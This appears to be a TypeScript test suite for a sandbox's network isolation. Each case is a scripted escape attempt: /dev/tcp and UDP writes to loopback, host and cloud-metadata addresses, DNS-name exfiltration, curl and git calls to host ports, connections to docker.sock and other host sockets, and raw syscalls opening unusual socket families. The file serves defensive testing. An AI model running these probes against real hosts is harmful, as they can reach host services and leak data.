import type { Attack } from '../attack.types.ts'
import { probeAttacks, programAttack, scriptAttack } from '../attack-forms.ts'

const attack = (name: string, script: Parameters<typeof scriptAttack>[2]): Attack =>
  scriptAttack('network', name, script)

// `socket(family, type, protocol)`
const socket = (family: number, type: number, protocol = 0) => `call([41, 198], ${family}, ${type}, ${protocol})`
const anyOf = (...calls: readonly string[]) => `Math.max(${calls.join(', ')})`

/** The servers of the host greet with a secret and note what they get. */
export const NETWORK_ATTACKS: readonly Attack[] = [
  attack(
    "the loopback of the host is not the sandbox's",
    ({ outside: { tcpPort }, mark }) => `
    for h in 127.0.0.1 127.0.0.2 localhost 0.0.0.0; do exec 3<>/dev/tcp/$h/${tcpPort} && { echo ${mark} >&3; timeout 1 head -c 200 <&3; }; done`,
  ),
  programAttack(
    'network',
    'the loopback of the host is not there over IPv6 either',
    ({ outside: { tcpPort }, mark }) => `
    for (const hostname of ['::1', '::ffff:127.0.0.1', '::']) await Bun.connect({ hostname, port: ${tcpPort}, socket: { open: (s) => void s.write('${mark}'), data: (_, d) => console.log(d.toString()) } }).catch(() => {})`,
  ),
  attack(
    'no address of the host has a route',
    ({ outside: { tcpPort, addresses }, mark }) => `
    for h in ${addresses.join(' ')} 169.254.169.254 10.0.0.1 172.17.0.1 192.168.0.1 192.0.2.1; do timeout 1 bash -c "exec 3<>/dev/tcp/$h/${tcpPort} && { echo ${mark} >&3; head -c 200 <&3; }"; done; cat /proc/net/route /proc/net/fib_trie`,
  ),
  attack(
    'no datagram leaves',
    ({ outside: { udpPort, addresses }, mark }) =>
      `for h in 127.0.0.1 255.255.255.255 224.0.0.1 ${addresses.join(' ')}; do echo ${mark} >/dev/udp/$h/${udpPort}; done`,
  ),
  attack(
    'no name is resolved, so no name carries a message',
    ({ mark }) =>
      `timeout 2 getent hosts ${mark}.example.org; cat /etc/resolv.conf; timeout 2 getent ahosts one.one.one.one`,
  ),
  attack(
    'curl, git and Bun reach nobody',
    ({ outside: { tcpPort }, mark }) => `
    curl -sm1 http://127.0.0.1:${tcpPort}/${mark}; timeout 2 git ls-remote git://127.0.0.1:${tcpPort}/${mark}; timeout 5 bun -e 'await fetch("http://127.0.0.1:${tcpPort}/${mark}").catch(() => {})'`,
  ),
  programAttack(
    'network',
    'an abstract socket of the host has no name inside',
    ({ outside: { abstractName }, mark }) => `
    for (const unix of ['\\0${abstractName}', '@${abstractName}']) await Bun.connect({ unix, socket: { open: (s) => void s.write('${mark}'), data: (_, d) => console.log(d.toString()) } }).catch(() => {})
    console.log(readFileSync('/proc/net/unix', 'latin1')); await Bun.sleep(20)`,
  ),
  programAttack(
    'network',
    'a socket file outside has no path',
    ({ outside: { socketPath }, mark }) => `
    const paths = ['${socketPath}', '/run/dbus/system_bus_socket', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/systemd/private', '/proc/1/root${socketPath}', '/tmp/.X11-unix/X0', '/dev/log']
    for (const unix of paths) await Bun.connect({ unix, socket: { open: (s) => { s.write('${mark}'); console.log('opened', unix) }, data: (_, d) => console.log(d.toString()) } }).catch(() => {})`,
  ),
  {
    group: 'network',
    name: 'a server inside is reached by nobody outside',
    attempt: async ({ probes, outside }) => {
      const { answers } = await probes('server', SERVER)
      const port = Number(answers['a server listens'])
      if (!(port > 0)) throw new Error('the server did not start')
      for (const hostname of ['127.0.0.1', ...outside.addresses]) {
        const reached = await Bun.connect({ hostname, port, socket: { data: () => {} } }).then(
          (peer) => !peer.end(),
          () => false,
        )
        if (reached) return `port ${port} answers on ${hostname}`
      }
      return null
    },
  },
  attack(
    'its only interface is a loopback of its own',
    ({ outside: { tcpPort }, mark }) => `
    ip link add dummy0 type dummy; ip addr add 192.0.2.2/24 dev lo; ip route add default dev lo; echo 1 >/proc/sys/net/ipv4/ip_forward
    echo ${mark} >/dev/tcp/192.0.2.1/${tcpPort}; test "$(tail -n +3 /proc/net/dev | grep -vc ' *lo:')" = 0 || cat /proc/net/dev`,
  ),
  ...probeAttacks('network', {
    'no raw IP socket': anyOf(socket(2, 3, 1), socket(10, 3, 58), socket(2, 3, 255)),
    'no packet socket': anyOf(socket(17, 3, 0x300), socket(17, 2, 0x300)),
    'no socket to the hypervisor (AF_VSOCK)': anyOf(socket(40, 1), socket(40, 2), socket(40, 5)),
    'no socket to the crypto of the kernel (AF_ALG)': socket(38, 5),
    'no express data path (AF_XDP)': socket(44, 3),
    'no netlink but for routes: audit, events, firewall, generic, diagnosis': anyOf(
      ...[2, 4, 5, 6, 9, 11, 12, 15, 16, 18, 21].map((protocol) => socket(16, 3, protocol)),
    ),
    'no Bluetooth, CAN, NFC or infrared': anyOf(socket(31, 3, 1), socket(29, 3, 1), socket(39, 5, 1), socket(23, 2)),
    'no rare family with a wide kernel behind it': anyOf(
      ...[
        3, 4, 5, 6, 8, 9, 11, 12, 18, 19, 20, 21, 22, 24, 25, 26, 27, 28, 30, 32, 33, 34, 35, 36, 37, 41, 42, 43, 45,
      ].map((family) => anyOf(socket(family, 1), socket(family, 2), socket(family, 5))),
    ),
    'no SCTP, DCCP, UDP-lite or MPTCP': anyOf(
      socket(2, 1, 132),
      socket(2, 5, 132),
      socket(2, 6, 33),
      socket(2, 2, 136),
      socket(2, 1, 262),
      socket(10, 1, 262),
      // SMC and ping, beside them
      ...[2, 10].flatMap((family) => [socket(family, 1, 256), socket(family, 2, 1), socket(family, 2, 58)]),
      'call([41, 198], 2, 1, 262n | (1n << 32n))',
    ),
    'high bits in the family hide nothing': 'call([41, 198], 40n | (1n << 32n), 1, 0)',
    'a socket pair of another family is not made': 'call([53, 199], 40, 1, 0, ints(0, 0))',
  }),
]

const SERVER = { 'a server listens': 'Bun.listen({ hostname: "0.0.0.0", port: 0, socket: { data() {} } }).port' }
